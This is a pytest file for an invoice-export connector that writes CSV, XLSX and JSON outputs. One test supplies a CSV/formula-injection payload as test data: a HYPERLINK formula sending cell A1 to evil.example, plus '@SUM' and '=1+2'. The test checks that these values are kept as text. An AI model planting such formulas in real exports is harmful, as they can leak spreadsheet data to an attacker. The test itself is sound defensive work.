from __future__ import annotations

import json
from datetime import date
from decimal import Decimal

import pytest

from backoffice.connectors.base import Context
from backoffice.connectors.files import FilesSettings, FilesTarget
from backoffice.documents.models import Field
from backoffice.errors import BusinessError
from backoffice.queue.base import NewItem
from backoffice.queue.files import FileStore
from backoffice.queue.memory import MemoryStore
from tests.fakes import invoice


@pytest.fixture
def context(tmp_path):
    return Context(bot="invoices", workspace=tmp_path, files=FileStore(tmp_path / "files"), run="run-1")


@pytest.fixture
def items():
    store = MemoryStore()
    return [store.enqueue(NewItem("invoices", f"k{n}"))[0] for n in range(3)]


def target(context, **settings) -> FilesTarget:
    return FilesTarget(FilesSettings(kind="files", **settings), context)


def test_xlsx_has_typed_cells_a_lines_sheet_and_each_item_once(context, items, tmp_path):
    from openpyxl import load_workbook

    document = invoice()
    document.lines = [{"description": Field("Widget"), "amount": Field("100.00")}]
    xlsx = target(context, path="out/invoices.xlsx")
    assert xlsx.post(items[0], document) == f"out/invoices.xlsx#item-{items[0].id}"
    xlsx.post(items[0], document)  # again: nothing new
    xlsx.post(items[1], invoice(invoice_number="INV-2"))
    book = load_workbook(tmp_path / "out" / "invoices.xlsx")
    rows = list(book["documents"].iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("item_id", "kind", "source")
    first = dict(zip(header, rows[1], strict=True))
    assert (first["item_id"], first["grand_total"], first["issue_date"].date()) == (items[0].id, 119, date(2026, 1, 10))
    assert [r[0] for r in rows[1:]] == [items[0].id, items[1].id]
    lines = list(book["lines"].iter_rows(values_only=True))
    assert lines[0][:2] == ("item_id", "description") and lines[1][:2] == (items[0].id, "Widget")
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["invoices.xlsx"]


def test_one_file_per_run_and_lookup_finds_an_item_in_any_of_them(context, items, tmp_path):
    per_run = target(context, path="out/run-{run}.jsonl")
    per_run.post(items[0], invoice())
    context.run = "run-2"
    per_run.post(items[1], invoice())
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["run-run-1.jsonl", "run-run-2.jsonl"]
    assert per_run.lookup(items[0], invoice()) == f"out/run-run-1.jsonl#item-{items[0].id}"
    assert per_run.lookup(items[2], invoice()) is None


def test_one_file_per_item_named_by_its_fields(context, items, tmp_path):
    per_item = target(context, path="out/{seller_name}/{invoice_number}.json", format="jsonl",
                      columns={"number": "invoice_number", "total": {"field": "grand_total", "type": "number"}})  # fmt: skip
    ref = per_item.post(items[0], invoice(invoice_number="2026/17"))
    assert ref == f"out/Acme_GmbH/2026_17.json#item-{items[0].id}"
    record = json.loads((tmp_path / "out" / "Acme_GmbH" / "2026_17.json").read_text())
    assert record == {"item_id": items[0].id, "number": "2026/17", "total": "119.00"}  # exact decimal text
    with pytest.raises(BusinessError, match="invoice_number is empty"):
        per_item.post(items[1], invoice(invoice_number=None))


def test_csv_keeps_extracted_strings(context, items, tmp_path):
    import csv

    target(context, path="out/a.csv").post(items[0], invoice(grand_total="119.00"))
    [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
    assert row["grand_total"] == "119.00" and row["item_id"] == str(items[0].id)
    assert Decimal(row["grand_total"]) == Decimal("119.00")


def test_texts_that_would_run_as_formulas_stay_text_in_csv_and_xlsx(context, items, tmp_path):
    import csv

    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    document = invoice(seller_name=hostile, invoice_number="@SUM(1+1)", grand_total="-12.50")
    document.lines = [{"description": Field("=1+2"), "amount": Field("-12.50")}]
    target(context, path="out/a.csv").post(items[0], document)
    [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
    assert (row["seller_name"], row["invoice_number"]) == ("'" + hostile, "'@SUM(1+1)")
    assert row["grand_total"] == "-12.50"  # a negative amount is a number, not a formula

    target(context, path="out/a.xlsx").post(items[0], document)
    book = load_workbook(tmp_path / "out" / "a.xlsx")
    header, first = book["documents"].iter_rows(max_row=2)
    cell = {h.value: c for h, c in zip(header, first, strict=True)}["seller_name"]
    assert (cell.data_type, cell.value) == ("s", hostile)
    description = book["lines"].cell(row=2, column=2)
    assert (description.data_type, description.value) == ("s", "=1+2")
